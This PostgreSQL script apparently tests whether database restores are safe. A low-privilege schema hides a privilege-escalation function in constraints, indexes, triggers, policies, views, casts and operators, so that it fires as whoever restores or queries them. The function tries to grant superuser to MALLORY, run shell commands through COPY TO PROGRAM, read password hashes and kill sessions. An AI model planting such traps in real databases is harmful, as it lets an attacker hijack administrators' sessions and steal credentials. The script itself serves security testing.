-- Functions of a role that owns a schema and nothing else: each tries to gain rights from whoever runs it, wherever a restore does.
CREATE FUNCTION m.attempt(place text, what text, statement text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE statement;
    RAISE WARNING 'GAINED % by % as %', what, place, session_user;
EXCEPTION WHEN OTHERS THEN NULL;
END $$;
CREATE FUNCTION m.spring(place text) RETURNS void LANGUAGE plpgsql AS $$
DECLARE own text := pg_catalog.quote_ident(session_user);
BEGIN
    RAISE WARNING 'SPRUNG %', place;
    -- What a role may do with itself, which must be worth nothing.
    BEGIN EXECUTE 'GRANT ' || own || ' TO MALLORY'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'ALTER ROLE ' || own || ' PASSWORD ''known'''; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'ALTER ROLE ' || own || ' SET search_path = m'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'GRANT ALL ON DATABASE ' || pg_catalog.quote_ident(pg_catalog.current_database()) || ' TO PUBLIC'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'GRANT ALL ON ALL TABLES IN SCHEMA public TO MALLORY'; EXCEPTION WHEN OTHERS THEN NULL; END;
    PERFORM m.attempt(place, 'a role', 'ALTER ROLE MALLORY SUPERUSER');
    PERFORM m.attempt(place, 'a membership', 'GRANT pg_read_server_files, pg_execute_server_program TO MALLORY');
    PERFORM m.attempt(place, 'a membership of the maker''s', 'GRANT postgres TO MALLORY');
    PERFORM m.attempt(place, 'a program', $q$COPY (SELECT 1) TO PROGRAM 'id >> "FOLDER/ran"; cat "FOLDER/key" >> "FOLDER/ran"'$q$);
    PERFORM m.attempt(place, 'a file', $q$COPY (SELECT 1) TO 'FOLDER/written'$q$);
    PERFORM m.attempt(place, 'a look at a file', $q$SELECT pg_catalog.pg_read_file('PG_VERSION')$q$);
    PERFORM m.attempt(place, 'a large object in a file', $q$SELECT pg_catalog.lo_export(pg_catalog.lo_creat(-1), 'FOLDER/exported')$q$);
    PERFORM m.attempt(place, 'a look at passwords', 'SELECT rolpassword FROM pg_catalog.pg_authid');
    PERFORM m.attempt(place, 'a session', 'SET SESSION AUTHORIZATION postgres');
    PERFORM m.attempt(place, 'a role of the session', 'SET ROLE postgres');
    -- Of a role that can do nothing one comes back.
    IF pg_catalog.current_setting('is_superuser') = 'off' THEN BEGIN RESET ROLE; EXCEPTION WHEN OTHERS THEN NULL; END; END IF;
    PERFORM m.attempt(place, 'a language', 'UPDATE pg_catalog.pg_language SET lanpltrusted = true');
    PERFORM m.attempt(place, 'a setting of the server', 'ALTER SYSTEM SET work_mem = ''5MB''');
    PERFORM m.attempt(place, 'another''s connection', 'SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_catalog.pg_stat_activity WHERE usename = ''postgres'' AND pid <> pg_catalog.pg_backend_pid() LIMIT 1');
    BEGIN EXECUTE 'RESET ROLE'; EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
    IF pg_catalog.current_setting('is_superuser') = 'on' THEN
        RAISE WARNING 'GAINED everything by %', place;
        EXECUTE 'ALTER ROLE MALLORY SUPERUSER';
    END IF;
END $$;
CREATE FUNCTION m.trap(place text, value integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM m.spring(place); RETURN value; END $$;

CREATE TABLE m.checked (i integer CHECK (m.trap('check', i) > 0));
CREATE DOMAIN m.positive AS integer CHECK (m.trap('domain', VALUE) > 0);
CREATE TABLE m.of_domain (i m.positive);
CREATE TABLE m.given (i integer, d integer DEFAULT m.trap('default', 7));
CREATE TABLE m.generated (i integer, g integer GENERATED ALWAYS AS (m.trap('generated', i)) STORED);
CREATE TABLE m.indexed (i integer);
CREATE INDEX ON m.indexed (m.trap('index', i));
CREATE INDEX ON m.indexed (i) WHERE m.trap('partial index', i) > 0;
CREATE TABLE m.unique_by (i integer, EXCLUDE USING btree (m.trap('exclusion', i) WITH =));
CREATE TABLE m.parted (i integer) PARTITION BY RANGE (m.trap('partition key', i));
CREATE TABLE m.parted_1 PARTITION OF m.parted FOR VALUES FROM (0) TO (10);
CREATE TABLE m.watched (i integer);
CREATE FUNCTION m.watch() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN PERFORM m.spring('trigger'); RETURN NEW; END$$;
CREATE TABLE m.ruled (i integer);
CREATE TABLE m.refers (i integer);
CREATE FUNCTION m.add(integer, integer) RETURNS integer LANGUAGE sql AS $$SELECT m.trap('aggregate', $1 + $2)$$;
CREATE AGGREGATE m.sum (integer) (sfunc = m.add, stype = integer, initcond = '0');
CREATE TYPE m.pair AS (a integer, b integer);
CREATE FUNCTION m.to_pair(integer) RETURNS m.pair LANGUAGE plpgsql AS $$BEGIN PERFORM m.spring('cast'); RETURN ROW($1, $1)::m.pair; END$$;
CREATE CAST (integer AS m.pair) WITH FUNCTION m.to_pair(integer);
CREATE FUNCTION m.more(integer, integer) RETURNS boolean LANGUAGE sql AS $$SELECT m.trap('operator', $1) > $2$$;
CREATE OPERATOR m.>>> (leftarg = integer, rightarg = integer, function = m.more);
INSERT INTO m.checked VALUES (1);
INSERT INTO m.of_domain VALUES (1);
INSERT INTO m.given VALUES (1);
INSERT INTO m.generated VALUES (1), (2);
INSERT INTO m.indexed VALUES (1), (2);
INSERT INTO m.unique_by VALUES (1);
INSERT INTO m.parted VALUES (1);
INSERT INTO m.watched VALUES (1);
INSERT INTO m.ruled VALUES (1);
CREATE TRIGGER before BEFORE INSERT ON m.watched FOR EACH ROW EXECUTE FUNCTION m.watch();
ALTER TABLE m.watched ENABLE ALWAYS TRIGGER before;
CREATE CONSTRAINT TRIGGER late AFTER INSERT ON m.watched DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION m.watch();
CREATE RULE also AS ON INSERT TO m.ruled DO ALSO INSERT INTO m.given SELECT m.trap('rule', 1);
ALTER TABLE m.indexed ENABLE ROW LEVEL SECURITY;
ALTER TABLE m.indexed FORCE ROW LEVEL SECURITY;
CREATE POLICY p ON m.indexed USING (m.trap('policy', i) > 0);
CREATE STATISTICS m.known ON (m.trap('statistics', i)), i FROM m.checked;
CREATE VIEW m.seen AS SELECT m.trap('view', 1) AS i;
CREATE MATERIALIZED VIEW m.kept AS SELECT m.trap('materialized view', 1) AS i;
CREATE MATERIALIZED VIEW m.summed AS SELECT m.sum(i) FROM m.checked;
CREATE MATERIALIZED VIEW m.converted AS SELECT i::m.pair FROM m.checked;
CREATE MATERIALIZED VIEW m.compared AS SELECT i OPERATOR(m.>>>) 0 FROM m.checked;
CREATE MATERIALIZED VIEW m.of_view AS SELECT i FROM m.seen;
CREATE MATERIALIZED VIEW m.of_policy AS SELECT i FROM m.indexed;
